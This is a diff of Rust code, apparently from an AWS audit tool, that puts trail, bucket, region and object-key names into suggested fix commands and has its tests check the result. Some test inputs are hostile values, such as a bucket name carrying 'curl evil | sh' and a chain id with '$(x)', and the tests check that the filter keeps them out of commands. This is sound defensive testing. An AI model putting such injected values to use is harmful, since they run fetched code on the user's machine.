@@ -101,11 +101,11 @@ fn take_away(audit: &Audit, rights: &[Right<'_>]) -> String {
 
 /// The check's own words; its commands for the subjects of the findings.
 fn commands(fix: &str, findings: &[&Finding]) -> String {
-    let mut subjects = findings.iter().map(|it| &it.subject);
-    let Some(first) = subjects.next() else {
+    let Some(first) = findings.first().map(|it| &it.subject) else {
         return fix.to_owned();
     };
-    let filled = fill(fix, first);
+    let key = findings.first().and_then(|it| object(it));
+    let filled = fill(fix, first, key);
     let mut text = filled.text;
     if findings.len() == 1 && !filled.commands.is_empty() {
         return text;
@@ -114,15 +114,23 @@ fn commands(fix: &str, findings: &[&Finding]) -> String {
         let ids = findings.iter().map(|it| it.subject.id.as_str());
         return format!("{text} Concerns {}.", some(ids));
     }
-    let others = subjects.take(NAMED - 1).map(|it| fill(fix, it).commands);
-    let others: Vec<String> = others
-        .flatten()
-        .map(|command| format!("`{command}`"))
-        .collect();
+    // Chains of one trail have the same commands: once is enough.
+    let mut named: BTreeSet<String> = filled.commands.into_iter().collect();
+    let (mut others, mut more, mut subjects) = (Vec::new(), 0, 1);
+    for finding in findings.iter().skip(1) {
+        if subjects == NAMED {
+            more += 1;
+            continue;
+        }
+        let commands = fill(fix, &finding.subject, object(finding)).commands;
+        let new = commands.into_iter().filter(|it| named.insert(it.clone()));
+        let new: Vec<String> = new.map(|command| format!("`{command}`")).collect();
+        subjects += usize::from(!new.is_empty());
+        others.extend(new);
+    }
     if !others.is_empty() {
         text.push_str(&format!(" Likewise {}", others.join(", ")));
     }
-    let more = findings.len().saturating_sub(NAMED);
     if more > 0 {
         text.push_str(&format!(" and {more} more"));
     }
@@ -139,8 +147,22 @@ struct Filled {
     commands: Vec<String>,
 }
 
-fn fill(fix: &str, subject: &Subject) -> Filled {
-    let names = names(subject);
+/// The key of the object that a finding on a chain names first.
+fn object(finding: &Finding) -> Option<&str> {
+    if finding.subject.kind != SubjectKind::Chain {
+        return None;
+    }
+    let (_, place) = finding.message.split_once("s3://")?;
+    let (_, key) = place.split_once('/')?;
+    key.split(": ").next()
+}
+
+fn fill(fix: &str, subject: &Subject, key: Option<&str>) -> Filled {
+    let mut names = names(subject);
+    names.extend(key.filter(|it| is_plain(it)).map(|it| ("KEY", it)));
+    // A chain's region is that of its logs, not that of the bucket or the trail.
+    let region = subject.region.as_ref();
+    let region = region.filter(|_| subject.kind != SubjectKind::Chain);
     let mut filled = Filled {
         text: String::with_capacity(fix.len()),
         commands: Vec::new(),
@@ -155,7 +177,7 @@ fn fill(fix: &str, subject: &Subject) -> Filled {
             .flatten();
         match command {
             Some(mut command) => {
-                if let Some(region) = subject.region.as_ref().filter(|it| is_plain(it.as_str()))
+                if let Some(region) = region.filter(|it| is_plain(it.as_str()))
                     && !command.contains("--region")
                 {
                     command.push_str(&format!(" --region {region}"));
@@ -197,11 +219,37 @@ fn names(subject: &Subject) -> Vec<(&'static str, &str)> {
     if let Some((_, path)) = subject.id.split_once(":role/") {
         names.push(("ROLE", path.rsplit('/').next().unwrap_or(path)));
     }
+    if subject.kind == SubjectKind::Chain {
+        names.extend(of_chain(&subject.id));
+    }
+    if subject.kind == SubjectKind::Trail {
+        names.extend(
+            subject
+                .region
+                .as_ref()
+                .map(|it| ("HOME_REGION", it.as_str())),
+        );
+    }
     names.extend(subject.account.as_ref().map(|it| ("ACCOUNT", it.as_str())));
-    names.extend(subject.region.as_ref().map(|it| ("REGION", it.as_str())));
+    let region = subject.region.as_ref();
+    let region = region.filter(|_| subject.kind != SubjectKind::Chain);
+    names.extend(region.as_ref().map(|it| ("REGION", it.as_str())));
     // A name that a shell would not take as one word stays out of a command.
     names.retain(|(_, name)| is_plain(name));
     names
+}
+
+/// `ACCOUNT/REGION/TRAIL_HOME/TRAIL@BUCKET/PREFIX`.
+fn of_chain(id: &str) -> Vec<(&'static str, &str)> {
+    let mut parts = id.splitn(4, '/').skip(2);
+    let (Some(home), Some(rest)) = (parts.next(), parts.next()) else {
+        return Vec::new();
+    };
+    let Some((trail, place)) = rest.split_once('@') else {
+        return Vec::new();
+    };
+    let bucket = place.split('/').next().unwrap_or(place);
+    vec![("TRAIL", trail), ("HOME_REGION", home), ("BUCKET", bucket)]
 }
 
 fn is_plain(text: &str) -> bool {
@@ -260,12 +308,12 @@ mod tests {
         let bucket = subject(SubjectKind::Bucket, "arn:aws:s3:::logs", "logs");
         let fix = "Call it: `aws s3api put-x --bucket BUCKET --as NAME`, not `BUCKET/*`.";
         assert_eq!(
-            fill(fix, &bucket).text,
+            fill(fix, &bucket, None).text,
             "Call it: `aws s3api put-x --bucket logs --as NAME --region eu-west-1`, not `BUCKET/*`."
         );
         let fix = "`aws s3api put-x --bucket BUCKET --region REGION`";
         assert_eq!(
-            fill(fix, &bucket).text,
+            fill(fix, &bucket, None).text,
             "`aws s3api put-x --bucket logs --region eu-west-1`"
         );
         let fix = "Call it: `aws s3api put-x --bucket BUCKET --as NAME`, not `BUCKET/*`.";
@@ -274,11 +322,30 @@ mod tests {
             "arn:aws:cloudtrail:eu-west-1:111111111111:trail/a",
             "a",
         );
-        assert_eq!(fill(fix, &trail).text, fix);
+        assert_eq!(fill(fix, &trail, None).text, fix);
         let hostile = subject(SubjectKind::Bucket, "arn:aws:s3:::x", "x; curl evil | sh");
-        assert_eq!(fill(fix, &hostile).text, fix);
+        assert_eq!(fill(fix, &hostile, None).text, fix);
         let flag = subject(SubjectKind::Bucket, "arn:aws:s3:::x", "--endpoint-url=x");
-        assert_eq!(fill(fix, &flag).text, fix);
+        assert_eq!(fill(fix, &flag, None).text, fix);
+    }
+
+    #[test]
+    fn commands_name_the_trail_and_bucket_of_a_chain() {
+        let mut chain = subject(
+            SubjectKind::Chain,
+            "111111111111/eu-west-1/us-east-1/org@logs/p/",
+            "org",
+        );
+        let fix = "`aws x --name TRAIL --region HOME_REGION`, `aws y --bucket BUCKET --prefix KEY`";
+        assert_eq!(
+            fill(fix, &chain, Some("p/a.json.gz")).text,
+            "`aws x --name org --region us-east-1`, `aws y --bucket logs --prefix p/a.json.gz`"
+        );
+        chain.id = "o; x/r/us-east-1/a;b@$(x)/p".to_owned();
+        assert_eq!(
+            fill(fix, &chain, Some("a b")).text,
+            "`aws x --name TRAIL --region us-east-1`, `aws y --bucket BUCKET --prefix KEY`"
+        );
     }
 
     #[test]
